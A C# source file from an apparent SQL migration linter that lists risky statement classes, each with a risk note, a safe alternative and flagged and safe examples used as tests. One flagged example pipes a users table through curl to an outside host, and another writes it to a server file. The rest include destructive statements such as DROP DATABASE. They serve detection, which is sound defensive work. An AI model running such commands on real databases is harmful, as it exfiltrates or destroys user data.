namespace PipelineGuard.Sql;

/// <summary>The statement classes a <c>sql</c> rule can forbid (docs/CONTRACT.md, section 2).</summary>
public enum StatementClass
{
    DropTable,
    DropColumn,
    DropSchema,
    DropDatabase,
    Truncate,
    DeleteWithoutWhere,
    UpdateWithoutWhere,
    RenameTable,
    RenameColumn,
    AlterColumnType,
    AddNotNullColumn,
    DropNotNull,
    SetNotNull,
    AddColumnVolatileDefault,
    CreateIndexBlocking,
    DropIndexBlocking,
    ReindexBlocking,
    DetachPartitionBlocking,
    AddForeignKeyValidating,
    AddConstraintValidating,
    AddUniqueConstraintBlocking,
    TableRewrite,
    ConcurrentInTransaction,
    TransactionNesting,
    UncommittedTransaction,
    Grant,
    Revoke,
    CopyToProgram,
    SelectIntoOutfile,
    MergeDelete,
    DropCascade,
    DynamicSql,
    UnclassifiedStatement,
    SetTablespace,
    TruncateCascade,
}

/// <summary>The family a class belongs to, for documentation and default enforcement.</summary>
public enum StatementClassCategory { DataLoss, Breaking, LockOrRewrite, Transaction, Privilege, Unreadable }

/// <summary>
/// One statement class with its documentation. The bad example must be classified as this class
/// and the good example must not (both are run as tests). <see cref="PostgresLocks"/> says what each example does to the
/// existing table on PostgreSQL, per server version where that changed; PostgresLockClaimTests runs the examples on a
/// real server and fails when a claim is wrong.
/// </summary>
public sealed record StatementClassInfo(
    StatementClass Class,
    string Name,
    StatementClassCategory Category,
    string Summary,
    string Risk,
    string SafeAlternative,
    string BadExample,
    string GoodExample,
    SqlDialect ExampleDialect = SqlDialect.Postgres,
    IReadOnlyList<PostgresLockClaim>? PostgresLocks = null)
{
    /// <summary>The claim for a server version (server_version_num): the last one whose FromVersion it has reached.</summary>
    public PostgresLockClaim? PostgresLocksFor(int serverVersionNum) =>
        PostgresLocks?.Where(c => c.FromVersion <= serverVersionNum).MaxBy(c => c.FromVersion);

    /// <summary>The class this one was split from: naming the parent in <c>forbid:</c> or an allow comment covers this class too.</summary>
    public StatementClass? Parent { get; init; }

    /// <summary>The safe alternative in one dialect's terms where the general text names several.</summary>
    public IReadOnlyDictionary<SqlDialect, string> SafeAlternativeByDialect { get; init; } = new Dictionary<SqlDialect, string>();

    /// <summary>The fix for the dialect at hand only: a SQL Server user is not told about CONCURRENTLY.</summary>
    public string SafeAlternativeFor(SqlDialect dialect) => SafeAlternativeByDialect.GetValueOrDefault(dialect) ?? SafeAlternative;
}

/// <summary>Every statement class: one entry each, with its documentation (printed by <c>explain</c>).</summary>
public static class StatementClasses
{
    public static IReadOnlyList<StatementClassInfo> All { get; } =
    [
        new(StatementClass.DropTable, "drop-table", StatementClassCategory.DataLoss,
            "DROP TABLE on a table that existed before this migration.",
            "Every row of the table is gone, and code still reading it fails; a restore means downtime and lost writes.",
            "Stop using the table in code first, deploy, then drop it in a later migration (or rename it and drop after a grace period).",
            "DROP TABLE orders;",
            "CREATE TABLE orders_tmp (id bigint);\nDROP TABLE orders_tmp;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.None))]),
        new(StatementClass.DropColumn, "drop-column", StatementClassCategory.DataLoss,
            "ALTER TABLE ... DROP COLUMN.",
            "The column's data is lost and running code that selects or writes it breaks until it is deployed without it.",
            "Remove every use of the column from the code, deploy, then drop the column in a later migration.",
            "ALTER TABLE users DROP COLUMN legacy_email;",
            "ALTER TABLE users DROP CONSTRAINT users_legacy_email_key;",
            PostgresLocks: [new("users", "CREATE TABLE users (id bigint, legacy_email text CONSTRAINT users_legacy_email_key UNIQUE);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessExclusive))]),
        new(StatementClass.DropSchema, "drop-schema", StatementClassCategory.DataLoss,
            "DROP SCHEMA.",
            "Every object in the schema (with CASCADE, also dependants elsewhere) and its data is gone.",
            "Drop the objects one by one in reviewed migrations, or keep the schema and revoke access to it.",
            "DROP SCHEMA reporting CASCADE;",
            "REVOKE ALL ON SCHEMA reporting FROM PUBLIC;",
            PostgresLocks: [new("reporting.daily", "CREATE SCHEMA reporting; CREATE TABLE reporting.daily (id bigint);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.None))]),
        new(StatementClass.DropDatabase, "drop-database", StatementClassCategory.DataLoss,
            "DROP DATABASE.",
            "The whole database and all of its data is gone.",
            "Never drop a database from a migration; decommission it by hand with a verified backup.",
            "DROP DATABASE IF EXISTS billing;",
            "SELECT 1;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.None, RefusedInTransaction: true), new(PostgresLockMode.None))]),
        new(StatementClass.Truncate, "truncate", StatementClassCategory.DataLoss,
            "TRUNCATE (TRUNCATE ... CASCADE is its own class, truncate-cascade, covered by this one).",
            "All rows are removed at once under an ACCESS EXCLUSIVE lock; nothing can be recovered without a restore.",
            "Delete the rows you mean to delete with a WHERE clause, in batches, or archive the table first.",
            "TRUNCATE audit_log;",
            "DELETE FROM audit_log WHERE created_at < now() - interval '90 days';",
            PostgresLocks: [new("audit_log", "CREATE TABLE audit_log (id bigint, created_at timestamptz);", new(PostgresLockMode.AccessExclusive, Rewrites: true), new(PostgresLockMode.RowExclusive))]),
        new(StatementClass.TruncateCascade, "truncate-cascade", StatementClassCategory.DataLoss,
            "TRUNCATE ... CASCADE (a kind of truncate: forbidding or allowing truncate covers it).",
            "Every row of the table and of every table with a foreign key to it, at any depth, is removed under ACCESS EXCLUSIVE locks; the statement does not say which tables those are.",
            "Name every table you mean to empty in the TRUNCATE, without CASCADE (it then fails if another table still references them), or delete the rows you mean with a WHERE clause.",
            "TRUNCATE audit_log CASCADE;",
            "DELETE FROM audit_log WHERE created_at < now() - interval '90 days';",
            PostgresLocks: [new("audit_notes", "CREATE TABLE audit_log (id bigint PRIMARY KEY, created_at timestamptz); CREATE TABLE audit_notes (log_id bigint REFERENCES audit_log (id));", new(PostgresLockMode.AccessExclusive, Rewrites: true), new(PostgresLockMode.None))])
        {
            Parent = StatementClass.Truncate,
        },
        new(StatementClass.DeleteWithoutWhere, "delete-without-where", StatementClassCategory.DataLoss,
            "DELETE with no WHERE clause (also after a CTE, with USING or in a data-modifying CTE).",
            "Every row of the table is deleted, usually by mistake, and the statement holds row locks on all of them.",
            "Add the WHERE clause that names the rows you mean; delete in batches on large tables.",
            "WITH stale AS (SELECT id FROM sessions) DELETE FROM sessions;",
            "DELETE FROM sessions s USING users u WHERE s.user_id = u.id AND u.deleted;",
            PostgresLocks: [new("sessions", "CREATE TABLE users (id bigint, deleted boolean); CREATE TABLE sessions (id bigint, user_id bigint);", new(PostgresLockMode.RowExclusive), new(PostgresLockMode.RowExclusive))]),
        new(StatementClass.UpdateWithoutWhere, "update-without-where", StatementClassCategory.DataLoss,
            "UPDATE with no WHERE clause.",
            "Every row is overwritten (old values are lost) and locked for the length of the statement.",
            "Add a WHERE clause; backfill large tables in batches outside the migration.",
            "UPDATE accounts SET balance = 0;",
            "UPDATE accounts a SET balance = 0 FROM closures c WHERE c.account_id = a.id;",
            PostgresLocks: [new("accounts", "CREATE TABLE accounts (id bigint, balance numeric); CREATE TABLE closures (account_id bigint);", new(PostgresLockMode.RowExclusive), new(PostgresLockMode.RowExclusive))]),
        new(StatementClass.RenameTable, "rename-table", StatementClassCategory.Breaking,
            "Renaming a table (ALTER TABLE ... RENAME TO, RENAME TABLE, sp_rename).",
            "Running code still uses the old name and fails from the moment the migration commits.",
            "Create the new table or a view with the new name, move code over, and drop the old name in a later release.",
            "ALTER TABLE customers RENAME TO clients;",
            "CREATE VIEW clients AS SELECT * FROM customers;",
            PostgresLocks: [new("customers", "CREATE TABLE customers (id bigint);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessShare))]),
        new(StatementClass.RenameColumn, "rename-column", StatementClassCategory.Breaking,
            "Renaming a column (RENAME COLUMN, MySQL CHANGE old new, sp_rename ... 'COLUMN').",
            "Running code still uses the old column name and fails until it is redeployed.",
            "Add the new column, write to both, backfill, move reads over, then drop the old column later.",
            "ALTER TABLE users RENAME COLUMN name TO full_name;",
            "ALTER TABLE users ADD COLUMN full_name text;",
            PostgresLocks: [new("users", "CREATE TABLE users (id bigint, name text);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessExclusive))]),
        new(StatementClass.AlterColumnType, "alter-column-type", StatementClassCategory.Breaking,
            "Changing a column's type (ALTER COLUMN ... TYPE, MySQL MODIFY/CHANGE, T-SQL ALTER COLUMN).",
            "Most type changes rewrite the table and its indexes under an ACCESS EXCLUSIVE lock, and code may not accept the new type.",
            "Add a column of the new type, dual-write, backfill in batches, switch reads, then drop the old column.",
            "ALTER TABLE events ALTER COLUMN payload TYPE jsonb USING payload::jsonb;",
            "ALTER TABLE events ADD COLUMN payload_json jsonb;",
            PostgresLocks: [new("events", "CREATE TABLE events (id bigint, payload text);", new(PostgresLockMode.AccessExclusive, Rewrites: true), new(PostgresLockMode.AccessExclusive))]),
        new(StatementClass.AddNotNullColumn, "add-not-null-column", StatementClassCategory.Breaking,
            "Adding a NOT NULL column without a default to an existing table.",
            "The statement fails on a table that has rows, and inserts by running code that does not know the column fail.",
            "Add the column nullable (or with a default), backfill, then add the NOT NULL constraint safely.",
            "ALTER TABLE orders ADD COLUMN region text NOT NULL;",
            "ALTER TABLE orders ADD COLUMN region text NOT NULL DEFAULT 'eu';",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessExclusive, Rewrites: true)), new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessExclusive), 110000)]),
        new(StatementClass.DropNotNull, "drop-not-null", StatementClassCategory.Breaking,
            "Removing a NOT NULL constraint (ALTER COLUMN ... DROP NOT NULL).",
            "Code that relies on the column always having a value starts reading NULLs written by newer code.",
            "Make sure every reader handles NULL before dropping the constraint.",
            "ALTER TABLE orders ALTER COLUMN region DROP NOT NULL;",
            "ALTER TABLE orders ALTER COLUMN region SET DEFAULT 'eu';",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint, region text NOT NULL);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessExclusive))]),
        new(StatementClass.SetNotNull, "set-not-null", StatementClassCategory.LockOrRewrite,
            "ALTER COLUMN ... SET NOT NULL on an existing table without a validated CHECK (col IS NOT NULL) (PostgreSQL 12+ uses one to skip the scan).",
            "The whole table is scanned under an ACCESS EXCLUSIVE lock: reads and writes wait for the scan.",
            "ADD CONSTRAINT c CHECK (col IS NOT NULL) NOT VALID; VALIDATE CONSTRAINT c in a second transaction; then SET NOT NULL (PostgreSQL 12+) and drop the CHECK.",
            "ALTER TABLE orders ALTER COLUMN region SET NOT NULL;",
            "ALTER TABLE orders ADD CONSTRAINT orders_region_not_null CHECK (region IS NOT NULL) NOT VALID;\nALTER TABLE orders VALIDATE CONSTRAINT orders_region_not_null;\nALTER TABLE orders ALTER COLUMN region SET NOT NULL;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint, region text);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessExclusive))]),
        new(StatementClass.AddColumnVolatileDefault, "add-column-volatile-default", StatementClassCategory.LockOrRewrite,
            "ADD COLUMN with a volatile default (random(), gen_random_uuid(), clock_timestamp(), a serial, an unknown function).",
            "A volatile default is computed per row: PostgreSQL rewrites the whole table under an ACCESS EXCLUSIVE lock (constant and stable defaults such as now() do not rewrite from PostgreSQL 11).",
            "Add the column without a default, set the default in a second statement, and backfill existing rows in batches.",
            "ALTER TABLE users ADD COLUMN token uuid DEFAULT gen_random_uuid();",
            "ALTER TABLE users ADD COLUMN token uuid;\nALTER TABLE users ALTER COLUMN token SET DEFAULT gen_random_uuid();",
            PostgresLocks: [new("users", "CREATE TABLE users (id bigint);", new(PostgresLockMode.AccessExclusive, Rewrites: true), new(PostgresLockMode.AccessExclusive))]),
        new(StatementClass.CreateIndexBlocking, "create-index-blocking", StatementClassCategory.LockOrRewrite,
            "CREATE INDEX without CONCURRENTLY (PostgreSQL) or without ONLINE = ON (SQL Server) on an existing table.",
            "Writes to the table are blocked (SHARE lock) for as long as the index takes to build.",
            "CREATE INDEX CONCURRENTLY outside a transaction (SQL Server: WITH (ONLINE = ON)).",
            "CREATE INDEX orders_created_idx ON orders (created_at);",
            "CREATE INDEX CONCURRENTLY orders_created_idx ON orders (created_at);",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint, created_at timestamptz);", new(PostgresLockMode.Share), new(PostgresLockMode.ShareUpdateExclusive, RefusedInTransaction: true))])
        {
            SafeAlternativeByDialect = new Dictionary<SqlDialect, string>
            {
                [SqlDialect.Postgres] = "CREATE INDEX CONCURRENTLY outside a transaction.",
                [SqlDialect.SqlServer] = "CREATE INDEX ... WITH (ONLINE = ON).",
            },
        },
        new(StatementClass.DropIndexBlocking, "drop-index-blocking", StatementClassCategory.LockOrRewrite,
            "DROP INDEX without CONCURRENTLY (PostgreSQL) or without ONLINE = ON (SQL Server).",
            "The table is locked ACCESS EXCLUSIVE while the index is dropped; queued queries pile up behind the lock.",
            "DROP INDEX CONCURRENTLY outside a transaction.",
            "DROP INDEX IF EXISTS orders_created_idx;",
            "DROP INDEX CONCURRENTLY IF EXISTS orders_created_idx;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint, created_at timestamptz); CREATE INDEX orders_created_idx ON orders (created_at);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.ShareUpdateExclusive, RefusedInTransaction: true))])
        {
            SafeAlternativeByDialect = new Dictionary<SqlDialect, string> { [SqlDialect.SqlServer] = "DROP INDEX ... WITH (ONLINE = ON)." },
        },
        new(StatementClass.ReindexBlocking, "reindex-blocking", StatementClassCategory.LockOrRewrite,
            "REINDEX without CONCURRENTLY.",
            "Writes (and, for REINDEX INDEX, reads through the index) are blocked for the whole rebuild.",
            "REINDEX ... CONCURRENTLY (PostgreSQL 12+), outside a transaction.",
            "REINDEX TABLE orders;",
            "REINDEX TABLE CONCURRENTLY orders;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint PRIMARY KEY);", new(PostgresLockMode.Share), new(PostgresLockMode.ShareUpdateExclusive, RefusedInTransaction: true))]),
        new(StatementClass.DetachPartitionBlocking, "detach-partition-blocking", StatementClassCategory.LockOrRewrite,
            "ALTER TABLE ... DETACH PARTITION without CONCURRENTLY.",
            "The parent table is locked ACCESS EXCLUSIVE, blocking every query on the partitioned table.",
            "DETACH PARTITION ... CONCURRENTLY (PostgreSQL 14+), outside a transaction.",
            "ALTER TABLE measurements DETACH PARTITION measurements_2020;",
            "ALTER TABLE measurements DETACH PARTITION measurements_2020 CONCURRENTLY;",
            PostgresLocks: [new("measurements", "CREATE TABLE measurements (at date) PARTITION BY RANGE (at); CREATE TABLE measurements_2020 PARTITION OF measurements FOR VALUES FROM ('2020-01-01') TO ('2021-01-01');", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.ShareUpdateExclusive, RefusedInTransaction: true)) { NotRun = "DETACH ... CONCURRENTLY waits out every older transaction, so the second session that observes its lock stalls it" }]),
        new(StatementClass.AddForeignKeyValidating, "add-foreign-key-validating", StatementClassCategory.LockOrRewrite,
            "Adding a foreign key to an existing table without NOT VALID (also ADD COLUMN ... REFERENCES).",
            "Both tables are locked (SHARE ROW EXCLUSIVE) while every existing row is checked: writes to both wait.",
            "ADD CONSTRAINT ... FOREIGN KEY ... NOT VALID, then VALIDATE CONSTRAINT in a separate transaction.",
            "ALTER TABLE orders ADD CONSTRAINT orders_user_fk FOREIGN KEY (user_id) REFERENCES users (id);",
            "ALTER TABLE orders ADD CONSTRAINT orders_user_fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID;",
            PostgresLocks: [new("orders", "CREATE TABLE users (id bigint PRIMARY KEY); CREATE TABLE orders (id bigint, user_id bigint);", new(PostgresLockMode.ShareRowExclusive), new(PostgresLockMode.ShareRowExclusive))]),
        new(StatementClass.AddConstraintValidating, "add-constraint-validating", StatementClassCategory.LockOrRewrite,
            "Adding a CHECK constraint without NOT VALID (to a table, or to a domain: ALTER DOMAIN ... ADD CONSTRAINT checks every column of that type), or VALIDATE CONSTRAINT in the same transaction that added it NOT VALID.",
            "The table is scanned while an ACCESS EXCLUSIVE lock is held: all reads and writes wait for the scan.",
            "ADD CONSTRAINT ... NOT VALID in one transaction; VALIDATE CONSTRAINT in the next (it only takes a SHARE UPDATE EXCLUSIVE lock).",
            "ALTER TABLE accounts ADD CONSTRAINT positive_balance CHECK (balance >= 0);",
            "ALTER TABLE accounts ADD CONSTRAINT positive_balance CHECK (balance >= 0) NOT VALID;\nCOMMIT;\nBEGIN;\nALTER TABLE accounts VALIDATE CONSTRAINT positive_balance;\nCOMMIT;",
            PostgresLocks: [new("accounts", "CREATE TABLE accounts (id bigint, balance numeric);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessExclusive))]),
        new(StatementClass.AddUniqueConstraintBlocking, "add-unique-constraint-blocking", StatementClassCategory.LockOrRewrite,
            "Adding a UNIQUE, PRIMARY KEY or EXCLUDE constraint that builds its index in place (not USING INDEX).",
            "The index is built under an ACCESS EXCLUSIVE lock: every query on the table waits for the build.",
            "CREATE UNIQUE INDEX CONCURRENTLY first, then ADD CONSTRAINT ... UNIQUE USING INDEX (or PRIMARY KEY USING INDEX).",
            "ALTER TABLE users ADD CONSTRAINT users_email_key UNIQUE (email);",
            "ALTER TABLE users ADD CONSTRAINT users_email_key UNIQUE USING INDEX users_email_idx;",
            PostgresLocks: [new("users", "CREATE TABLE users (id bigint, email text); CREATE UNIQUE INDEX users_email_idx ON users (email);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.AccessExclusive))]),
        new(StatementClass.TableRewrite, "table-rewrite", StatementClassCategory.LockOrRewrite,
            "Statements that rewrite a whole table under an exclusive lock: VACUUM FULL, CLUSTER, SET LOGGED/UNLOGGED, SET TABLESPACE (its own class set-tablespace, covered by this one), ADD COLUMN ... GENERATED STORED, any ADD COLUMN default before PostgreSQL 11, MySQL OPTIMIZE TABLE.",
            "The table is copied in full while locked ACCESS EXCLUSIVE: reads and writes wait for the copy.",
            "Use pg_repack (or REPACK on PostgreSQL 19) instead of VACUUM FULL/CLUSTER; add generated columns as plain columns with a backfill.",
            "VACUUM FULL orders;",
            "VACUUM (ANALYZE) orders;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.AccessExclusive, Rewrites: true, RefusedInTransaction: true), new(PostgresLockMode.ShareUpdateExclusive, RefusedInTransaction: true))]),
        new(StatementClass.SetTablespace, "set-tablespace", StatementClassCategory.LockOrRewrite,
            "ALTER TABLE ... SET TABLESPACE on an existing table (a kind of table-rewrite: forbidding or allowing table-rewrite covers it).",
            "The table's files are copied to the new tablespace while it is locked ACCESS EXCLUSIVE: reads and writes wait for the copy.",
            "Create the table in the right tablespace from the start, or move it with pg_repack --tablespace, which holds the lock only briefly.",
            "ALTER TABLE orders SET TABLESPACE fast_ssd;",
            "ALTER TABLE orders SET (fillfactor = 90);",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.AccessExclusive, Rewrites: true), new(PostgresLockMode.ShareUpdateExclusive)) { NotRun = "the flagged example needs a tablespace directory on the server" }])
        {
            Parent = StatementClass.TableRewrite,
        },
        new(StatementClass.ConcurrentInTransaction, "concurrent-in-transaction", StatementClassCategory.Transaction,
            "A CONCURRENTLY operation inside a transaction block (explicit, or assumed because the migration tool wraps each file).",
            "PostgreSQL refuses to run it (the migration fails halfway), or the tool's transaction holds its locks anyway.",
            "Put the CONCURRENTLY statement in its own migration that runs outside a transaction.",
            "BEGIN;\nCREATE INDEX CONCURRENTLY orders_created_idx ON orders (created_at);\nCOMMIT;",
            "CREATE INDEX CONCURRENTLY orders_created_idx ON orders (created_at);",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint, created_at timestamptz);", new(PostgresLockMode.ShareUpdateExclusive, RefusedInTransaction: true), new(PostgresLockMode.ShareUpdateExclusive, RefusedInTransaction: true))]),
        new(StatementClass.TransactionNesting, "transaction-nesting", StatementClassCategory.Transaction,
            "BEGIN inside an open transaction, or COMMIT/ROLLBACK with no transaction of the file's own to end.",
            "A nested BEGIN is ignored, so a later COMMIT commits the migration tool's transaction early; the rest runs without one.",
            "Let the migration tool manage the transaction, or manage it in the file, not both.",
            "BEGIN;\nBEGIN;\nSELECT 1;\nCOMMIT;",
            "BEGIN;\nSELECT 1;\nCOMMIT;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.None), new(PostgresLockMode.None))]),
        new(StatementClass.UncommittedTransaction, "uncommitted-transaction", StatementClassCategory.Transaction,
            "A transaction begun in the file that is never committed or rolled back.",
            "The migration's changes stay uncommitted (and locks stay held) until the session ends, and then they are lost.",
            "End every BEGIN / START TRANSACTION with COMMIT.",
            "BEGIN;\nCREATE TABLE users (id bigint);",
            "BEGIN;\nCREATE TABLE users (id bigint);\nCOMMIT;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.None), new(PostgresLockMode.None))]),
        new(StatementClass.Grant, "grant", StatementClassCategory.Privilege,
            "GRANT of privileges or roles.",
            "Access changes hidden in a schema migration escape the review that access changes need.",
            "Manage grants in the access-control repository or infrastructure code, reviewed by its owners.",
            "GRANT ALL ON ALL TABLES IN SCHEMA public TO reporting;",
            "CREATE TABLE reports (id bigint);",
            PostgresLocks: [new("ledger", "CREATE TABLE ledger (id bigint); DO $$ BEGIN CREATE ROLE reporting; EXCEPTION WHEN duplicate_object THEN NULL; END $$;", new(PostgresLockMode.None), new(PostgresLockMode.None))]),
        new(StatementClass.Revoke, "revoke", StatementClassCategory.Privilege,
            "REVOKE of privileges or roles.",
            "Services using those privileges start failing when the migration runs.",
            "Manage grants in the access-control repository, and check which services use the privilege first.",
            "REVOKE SELECT ON orders FROM analytics;",
            "SELECT 1;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint); DO $$ BEGIN CREATE ROLE analytics; EXCEPTION WHEN duplicate_object THEN NULL; END $$;", new(PostgresLockMode.None), new(PostgresLockMode.None))]),
        new(StatementClass.CopyToProgram, "copy-to-program", StatementClassCategory.Privilege,
            "COPY ... TO/FROM PROGRAM, COPY ... TO a server file, or xp_cmdshell: running shell commands or writing files on the database server.",
            "Runs arbitrary commands as the database server's OS user or writes data out of the database: an exfiltration path.",
            "Export data through the application or a reviewed data pipeline, never from a migration.",
            "COPY users TO PROGRAM 'curl -T - https://example.com';",
            "COPY users FROM STDIN;",
            PostgresLocks: [new("users", "CREATE TABLE users (id bigint);", new(PostgresLockMode.AccessShare), new(PostgresLockMode.RowExclusive)) { NotRun = "the bad example runs a shell command on the database server" }]),
        new(StatementClass.SelectIntoOutfile, "select-into-outfile", StatementClassCategory.Privilege,
            "MySQL SELECT ... INTO OUTFILE / DUMPFILE.",
            "Writes query results to a file on the database server: an exfiltration path.",
            "Export data through the application or a reviewed data pipeline.",
            "SELECT * FROM users INTO OUTFILE '/tmp/users.csv';",
            "SELECT * FROM users INTO @first_user;",
            SqlDialect.MySql),
        new(StatementClass.MergeDelete, "merge-delete", StatementClassCategory.DataLoss,
            "MERGE ... WHEN [NOT] MATCHED [BY SOURCE] THEN DELETE on a table that existed before this migration.",
            "Every target row the source matches (or, with NOT MATCHED BY SOURCE, every row the source lacks) is deleted; a wrong or empty source deletes the table's rows.",
            "Delete the rows you mean with a DELETE ... WHERE you can review, in batches, or archive them first.",
            "MERGE INTO accounts a USING closures c ON a.id = c.account_id WHEN MATCHED THEN DELETE;",
            "MERGE INTO accounts a USING closures c ON a.id = c.account_id WHEN MATCHED THEN UPDATE SET closed = true;",
            PostgresLocks: [new("accounts", "CREATE TABLE accounts (id bigint, closed boolean); CREATE TABLE closures (account_id bigint);", new(PostgresLockMode.RowExclusive), new(PostgresLockMode.RowExclusive))]),
        new(StatementClass.DropCascade, "drop-cascade", StatementClassCategory.DataLoss,
            "DROP OWNED, and DROP TYPE / EXTENSION / FUNCTION / VIEW / DOMAIN / SEQUENCE ... CASCADE.",
            "CASCADE also drops what depends on the object: columns of a dropped type, tables and views using an extension's types; DROP OWNED drops every object the role owns, tables and their data included.",
            "Drop the dependants you mean by name in reviewed statements, then drop the object without CASCADE (it fails if anything still depends on it).",
            "DROP TYPE order_status CASCADE;",
            "DROP TYPE order_status;",
            PostgresLocks: [new("orders", "CREATE TYPE order_status AS ENUM ('open', 'closed'); CREATE TABLE orders (id bigint, status order_status);", new(PostgresLockMode.AccessExclusive), new(PostgresLockMode.None, FailsWith: "2BP01"))]),
        new(StatementClass.DynamicSql, "dynamic-sql", StatementClassCategory.Unreadable,
            "SQL built at run time that the guard cannot see into: EXECUTE of an expression in a DO block or PL/pgSQL body, EXEC(@sql), sp_executesql @sql, PREPARE ... FROM @var, EXECUTE of a statement prepared elsewhere. Constant dynamic SQL (EXEC('...'), sp_executesql N'...', EXECUTE '...') is analysed as the SQL it holds instead.",
            "What runs is decided when the migration runs: it can drop or empty any table without any statement here saying so.",
            "Write the statements out in the migration, or build the text from constants the guard can read.",
            "DO $$ BEGIN EXECUTE 'DROP TABLE ' || quote_ident(current_setting('app.old_table')); END $$;",
            "DO $$ BEGIN EXECUTE 'CREATE TABLE audit_2027 (id bigint)'; END $$;",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint);", new(PostgresLockMode.None, FailsWith: "42704"), new(PostgresLockMode.None))]),
        new(StatementClass.UnclassifiedStatement, "unclassified-statement", StatementClassCategory.Unreadable,
            "A statement the analyser does not know (not one of the statement kinds it reads), or a call of a procedure defined outside the file.",
            "The guard cannot say what it does, so it cannot say it is safe: an unknown statement passing silently would be a way around every other class.",
            "Use a statement the guard knows, or waive it with an allow comment naming this class and the reason.",
            "ALTER TEXT SEARCH CONFIGURATION english_nostop ALTER MAPPING FOR word WITH simple;",
            "COMMENT ON TABLE orders IS 'one row per order';",
            PostgresLocks: [new("orders", "CREATE TABLE orders (id bigint); CREATE TEXT SEARCH CONFIGURATION english_nostop (COPY = english);", new(PostgresLockMode.None), new(PostgresLockMode.ShareUpdateExclusive))]),
    ];

    private static readonly Dictionary<string, StatementClassInfo> s_byName = All.ToDictionary(c => c.Name, StringComparer.Ordinal);
    private static readonly StatementClassInfo[] s_byClass = All.OrderBy(c => (int)c.Class).ToArray();

    public static bool TryGet(string name, out StatementClassInfo info) => s_byName.TryGetValue(name, out info!);

    public static StatementClassInfo Get(StatementClass value) => s_byClass[(int)value];

    public static string NameOf(StatementClass value) => s_byClass[(int)value].Name;

    /// <summary>True when naming <paramref name="named"/> covers a finding of <paramref name="found"/>: the same class or one split from it.</summary>
    public static bool Covers(StatementClass named, StatementClass found)
    {
        for (StatementClass? c = found; c is { } current; c = Get(current).Parent)
        {
            if (current == named) return true;
        }
        return false;
    }

    /// <summary>The class and every class split from it, at any depth.</summary>
    public static IEnumerable<StatementClass> WithDescendants(StatementClass value) => All.Where(c => Covers(value, c.Class)).Select(c => c.Class);

    /// <summary>The names that cover a finding of <paramref name="found"/>: its own and its ancestors'.</summary>
    public static IEnumerable<string> NamesCovering(StatementClass found)
    {
        for (StatementClass? c = found; c is { } current; c = Get(current).Parent) yield return Get(current).Name;
    }
}
